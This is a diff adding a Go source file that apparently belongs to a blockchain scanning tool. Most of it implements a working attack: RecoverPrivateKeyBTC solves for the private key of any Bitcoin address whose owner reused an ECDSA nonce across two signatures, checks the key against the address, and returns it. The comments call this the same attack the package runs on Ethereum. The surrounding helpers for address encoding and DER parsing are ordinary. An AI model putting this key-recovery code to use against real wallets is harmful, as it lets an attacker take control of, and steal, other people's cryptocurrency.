@@ -0,0 +1,348 @@
+package recovery
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"math/big"
+	"strings"
+
+	"github.com/ethereum/go-ethereum/crypto"
+	"golang.org/x/crypto/ripemd160"
+)
+
+// base58Alphabet is the Bitcoin base58 alphabet (no 0, O, I, l).
+const base58Alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+
+// BTCSignature is one Bitcoin input's signature components, extracted from
+// its scriptSig/witness by the Bitcoin scanner backend: the DER-decoded
+// (r, s) pair and the sighash it was computed over (legacy sighash or
+// BIP143, depending on the input). Unlike recovery.TxSignature, it carries
+// no RPC client or transport details - the scanner backend does its own
+// block/script parsing and hands the already-extracted components here, the
+// same split SolveComponent uses for cross-key recovery.
+type BTCSignature struct {
+	TxID        string
+	Vin         int
+	SigningHash []byte
+	R, S        *big.Int
+}
+
+// Hash160 is SHA-256 followed by RIPEMD-160, the digest Bitcoin uses to turn
+// a public key into the 20-byte payload of a P2PKH/P2WPKH address.
+func Hash160(b []byte) []byte {
+	sha := sha256.Sum256(b)
+	ripemd := ripemd160.New()
+	ripemd.Write(sha[:])
+	return ripemd.Sum(nil)
+}
+
+// EncodeP2PKHAddress renders a 20-byte hash160 as a mainnet base58check
+// P2PKH address (version byte 0x00), e.g. for display in notifications.
+func EncodeP2PKHAddress(hash160 []byte) string {
+	payload := append([]byte{0x00}, hash160...)
+	checksum := doubleSHA256(payload)
+	full := append(payload, checksum[:4]...)
+	return base58Encode(full)
+}
+
+// DecodeP2PKHAddress reverses EncodeP2PKHAddress, returning the underlying
+// hash160 after validating the base58check checksum and the mainnet P2PKH
+// version byte.
+func DecodeP2PKHAddress(addr string) ([]byte, error) {
+	full, err := base58Decode(addr)
+	if err != nil {
+		return nil, err
+	}
+	if len(full) != 25 {
+		return nil, errors.New("btc: decoded address has the wrong length")
+	}
+	payload, checksum := full[:21], full[21:]
+	want := doubleSHA256(payload)
+	if !strings.EqualFold(hex.EncodeToString(checksum), hex.EncodeToString(want[:4])) {
+		return nil, errors.New("btc: address checksum mismatch")
+	}
+	if payload[0] != 0x00 {
+		return nil, errors.New("btc: not a mainnet P2PKH address")
+	}
+	return payload[1:], nil
+}
+
+func doubleSHA256(b []byte) [32]byte {
+	first := sha256.Sum256(b)
+	return sha256.Sum256(first[:])
+}
+
+func base58Encode(b []byte) string {
+	zero := byte(base58Alphabet[0])
+
+	x := new(big.Int).SetBytes(b)
+	mod := new(big.Int)
+	base := big.NewInt(58)
+
+	var out []byte
+	for x.Sign() > 0 {
+		x.DivMod(x, base, mod)
+		out = append(out, base58Alphabet[mod.Int64()])
+	}
+	// Reverse (we built it least-significant digit first).
+	for i, j := 0, len(out)-1; i < j; i, j = i+1, j-1 {
+		out[i], out[j] = out[j], out[i]
+	}
+
+	// Every leading zero byte becomes a leading '1' (base58Alphabet[0]).
+	for _, c := range b {
+		if c != 0 {
+			break
+		}
+		out = append([]byte{zero}, out...)
+	}
+	return string(out)
+}
+
+func base58Decode(s string) ([]byte, error) {
+	x := big.NewInt(0)
+	base := big.NewInt(58)
+	for _, c := range s {
+		idx := strings.IndexRune(base58Alphabet, c)
+		if idx < 0 {
+			return nil, errors.New("btc: invalid base58 character")
+		}
+		x.Mul(x, base)
+		x.Add(x, big.NewInt(int64(idx)))
+	}
+
+	decoded := x.Bytes()
+
+	leadingZeros := 0
+	for _, c := range s {
+		if c != rune(base58Alphabet[0]) {
+			break
+		}
+		leadingZeros++
+	}
+	return append(make([]byte, leadingZeros), decoded...), nil
+}
+
+// ParseDERSignature decodes a DER-encoded ECDSA signature, the format
+// Bitcoin scriptSigs and witnesses carry (optionally with a trailing
+// SIGHASH-type byte, which the caller strips before passing sig in here).
+func ParseDERSignature(sig []byte) (r, s *big.Int, err error) {
+	if len(sig) < 8 || sig[0] != 0x30 {
+		return nil, nil, errors.New("btc: not a DER sequence")
+	}
+	seqLen := int(sig[1])
+	if seqLen+2 > len(sig) {
+		return nil, nil, errors.New("btc: truncated DER signature")
+	}
+	body := sig[2 : seqLen+2]
+
+	r, rest, err := readDERInt(body)
+	if err != nil {
+		return nil, nil, err
+	}
+	s, rest, err = readDERInt(rest)
+	if err != nil {
+		return nil, nil, err
+	}
+	if len(rest) != 0 {
+		return nil, nil, errors.New("btc: trailing bytes after DER signature")
+	}
+	return r, s, nil
+}
+
+func readDERInt(b []byte) (val *big.Int, rest []byte, err error) {
+	if len(b) < 2 || b[0] != 0x02 {
+		return nil, nil, errors.New("btc: expected DER integer")
+	}
+	n := int(b[1])
+	if n+2 > len(b) {
+		return nil, nil, errors.New("btc: truncated DER integer")
+	}
+	val = new(big.Int).SetBytes(b[2 : 2+n])
+	return val, b[2+n:], nil
+}
+
+// RecoverPrivateKeyBTC recovers a private key from two Bitcoin signatures
+// that reused the same nonce (the same r value) - the identical attack
+// RecoverPrivateKey runs for Ethereum, since the underlying curve and math
+// are the same. expectedHash160 is the hex-encoded hash160 the recovered
+// key's compressed public key must match (the same 20-byte shape this
+// package's Ethereum side uses for addresses; the Bitcoin scanner backend
+// stores the display address, not the hash160, as a TxInput's Address); use
+// Hash160 or DecodeP2PKHAddress to produce it from a public key or a P2PKH
+// display address.
+func RecoverPrivateKeyBTC(sig1, sig2 BTCSignature, expectedHash160 string) (*RecoveredKey, error) {
+	if sig1.R == nil || sig2.R == nil || sig1.S == nil || sig2.S == nil {
+		return nil, errors.New("btc: signature missing components")
+	}
+	if sig1.R.Cmp(sig2.R) != 0 {
+		return nil, errors.New("btc: signatures have different r values")
+	}
+	if sig1.S.Cmp(sig2.S) == 0 {
+		return nil, errors.New("btc: signatures have identical signatures")
+	}
+
+	z1 := new(big.Int).SetBytes(sig1.SigningHash)
+	z2 := new(big.Int).SetBytes(sig2.SigningHash)
+	s1, s2, r := sig1.S, sig2.S, sig1.R
+
+	zDiff := new(big.Int).Sub(z1, z2)
+	zDiff.Mod(zDiff, secp256k1N)
+	sDiff := new(big.Int).Sub(s1, s2)
+	sDiff.Mod(sDiff, secp256k1N)
+	sDiffInv := new(big.Int).ModInverse(sDiff, secp256k1N)
+	if sDiffInv == nil {
+		return nil, errors.New("btc: failed to compute modular inverse of s difference")
+	}
+	k := new(big.Int).Mul(zDiff, sDiffInv)
+	k.Mod(k, secp256k1N)
+
+	rInv := new(big.Int).ModInverse(r, secp256k1N)
+	if rInv == nil {
+		return nil, errors.New("btc: failed to compute modular inverse of r")
+	}
+
+	wantHash160 := strings.ToLower(strings.TrimPrefix(expectedHash160, "0x"))
+
+	// There are two candidate nonces (k and n-k); try both rather than
+	// guessing which one produced this signature.
+	for _, candidate := range []*big.Int{k, new(big.Int).Sub(secp256k1N, k)} {
+		d := new(big.Int).Mul(s1, candidate)
+		d.Sub(d, z1)
+		d.Mul(d, rInv)
+		d.Mod(d, secp256k1N)
+		if d.Sign() < 0 {
+			d.Add(d, secp256k1N)
+		}
+
+		dBytes := make([]byte, 32)
+		raw := d.Bytes()
+		copy(dBytes[32-len(raw):], raw)
+		privKey, err := crypto.ToECDSA(dBytes)
+		if err != nil {
+			continue
+		}
+
+		hash160 := hex.EncodeToString(Hash160(crypto.CompressPubkey(&privKey.PublicKey)))
+		if hash160 != wantHash160 {
+			continue
+		}
+
+		return &RecoveredKey{
+			Address:    "0x" + hash160,
+			PrivateKey: "0x" + hex.EncodeToString(dBytes),
+			Chain:      "btc",
+			RValue:     "0x" + r.Text(16),
+			TxHash1:    sig1.TxID,
+			TxHash2:    sig2.TxID,
+		}, nil
+	}
+
+	return nil, errors.New("btc: recovered key does not match expected address")
+}
+
+// VerifyBTCPrivateKey verifies that a private key's compressed public key
+// hashes to expectedHash160 (see RecoverPrivateKeyBTC for the format).
+func VerifyBTCPrivateKey(privateKeyHex, expectedHash160 string) bool {
+	privKeyBytes, err := hex.DecodeString(strings.TrimPrefix(privateKeyHex, "0x"))
+	if err != nil {
+		return false
+	}
+	privKey, err := crypto.ToECDSA(privKeyBytes)
+	if err != nil {
+		return false
+	}
+	hash160 := hex.EncodeToString(Hash160(crypto.CompressPubkey(&privKey.PublicKey)))
+	return strings.EqualFold(hash160, strings.TrimPrefix(expectedHash160, "0x"))
+}
+
+// bech32Charset is the BIP173 base32 alphabet, ordered so that each
+// character's index is also its 5-bit value.
+const bech32Charset = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
+
+// bech32Gen is the BCH-code generator polynomial from BIP173, used to
+// extend the checksum over the human-readable part and data.
+var bech32Gen = [5]uint32{0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3}
+
+func bech32Polymod(values []byte) uint32 {
+	chk := uint32(1)
+	for _, v := range values {
+		top := chk >> 25
+		chk = (chk&0x1ffffff)<<5 ^ uint32(v)
+		for i := 0; i < 5; i++ {
+			if (top>>uint(i))&1 == 1 {
+				chk ^= bech32Gen[i]
+			}
+		}
+	}
+	return chk
+}
+
+func bech32HRPExpand(hrp string) []byte {
+	out := make([]byte, 0, len(hrp)*2+1)
+	for _, c := range hrp {
+		out = append(out, byte(c)>>5)
+	}
+	out = append(out, 0)
+	for _, c := range hrp {
+		out = append(out, byte(c)&31)
+	}
+	return out
+}
+
+// convertBits re-packs a byte slice from fromBits-wide groups to
+// toBits-wide groups, the transform BIP173 uses to turn an 8-bit witness
+// program into bech32's 5-bit alphabet (and back).
+func convertBits(data []byte, fromBits, toBits uint, pad bool) ([]byte, error) {
+	var acc, bits uint32
+	var out []byte
+	maxv := uint32(1)<<toBits - 1
+	for _, b := range data {
+		acc = acc<<fromBits | uint32(b)
+		bits += uint32(fromBits)
+		for bits >= uint32(toBits) {
+			bits -= uint32(toBits)
+			out = append(out, byte(acc>>bits)&byte(maxv))
+		}
+	}
+	if pad {
+		if bits > 0 {
+			out = append(out, byte(acc<<(uint32(toBits)-bits))&byte(maxv))
+		}
+	} else if bits >= uint32(fromBits) || (acc<<(uint32(toBits)-bits))&maxv != 0 {
+		return nil, errors.New("btc: invalid padding in bit conversion")
+	}
+	return out, nil
+}
+
+// EncodeSegwitAddress renders a segwit witness program (e.g. a 20-byte
+// hash160 for P2WPKH, version 0) as a bech32 address under hrp ("bc" for
+// Bitcoin mainnet), the address format the scanner's segwit inputs use in
+// place of EncodeP2PKHAddress.
+func EncodeSegwitAddress(hrp string, witnessVersion byte, program []byte) (string, error) {
+	data, err := convertBits(program, 8, 5, true)
+	if err != nil {
+		return "", err
+	}
+	data = append([]byte{witnessVersion}, data...)
+
+	values := append(bech32HRPExpand(hrp), data...)
+	values = append(values, 0, 0, 0, 0, 0, 0)
+	polymod := bech32Polymod(values) ^ 1
+	checksum := make([]byte, 6)
+	for i := range checksum {
+		checksum[i] = byte((polymod >> uint(5*(5-i))) & 31)
+	}
+
+	var sb strings.Builder
+	sb.WriteString(hrp)
+	sb.WriteByte('1')
+	for _, d := range data {
+		sb.WriteByte(bech32Charset[d])
+	}
+	for _, d := range checksum {
+		sb.WriteByte(bech32Charset[d])
+	}
+	return sb.String(), nil
+}